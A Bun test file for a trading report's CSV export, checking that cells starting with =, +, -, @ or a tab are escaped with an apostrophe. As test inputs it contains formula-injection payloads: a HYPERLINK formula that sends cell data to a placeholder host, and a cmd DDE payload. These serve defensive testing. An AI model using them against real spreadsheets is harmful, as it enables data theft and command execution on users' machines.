import { describe, expect, test } from "bun:test";
import { openTradesToCsv, tradesToCsv } from "./to-csv.ts";
import type { ReportTrade } from "./types.ts";

const trade = (symbol: string): ReportTrade => ({
  symbol, size: -2, entryTime: Date.UTC(2024, 0, 1), exitTime: Date.UTC(2024, 0, 2), entryPrice: 10, exitPrice: 9, pnl: 2, returnPct: 10, fees: 0, duration: 86_400_000,
});

describe("CSV cells", () => {
  test("text a spreadsheet would run as a formula is written as text: a leading apostrophe, then the usual quoting", () => {
    const csv = tradesToCsv([trade('=HYPERLINK("http://x/?"&A1,"x")'), trade("+cmd|' /C calc'!A0"), trade("-1+1"), trade("@SUM(A1)"), trade("\tX")]);
    const symbols = csv.trim().split("\n").slice(1).map((line) => line.slice(0, line.lastIndexOf(",-2,")));
    expect(symbols).toEqual([`"'=HYPERLINK(""http://x/?""&A1,""x"")"`, "'+cmd|' /C calc'!A0", "'-1+1", "'@SUM(A1)", "'\tX"]);
  });

  test("plain text, commas and quotes keep their usual form; numbers, negative ones too, are not touched", () => {
    const csv = tradesToCsv([trade("BTCUSDT"), trade('A,"B"')]);
    expect(csv.split("\n")[1]).toBe("BTCUSDT,-2,2024-01-01T00:00:00.000Z,2024-01-02T00:00:00.000Z,10,9,2,10,0,86400000");
    expect(csv.split("\n")[2]!.startsWith('"A,""B""",-2,')).toBe(true);
    expect(openTradesToCsv([{ symbol: "=1+1", size: -3, entryTime: 0, entryPrice: 5, entryFee: 0.5 }]).split("\n")[1]).toBe("'=1+1,-3,1970-01-01T00:00:00.000Z,5,0.5");
  });
});
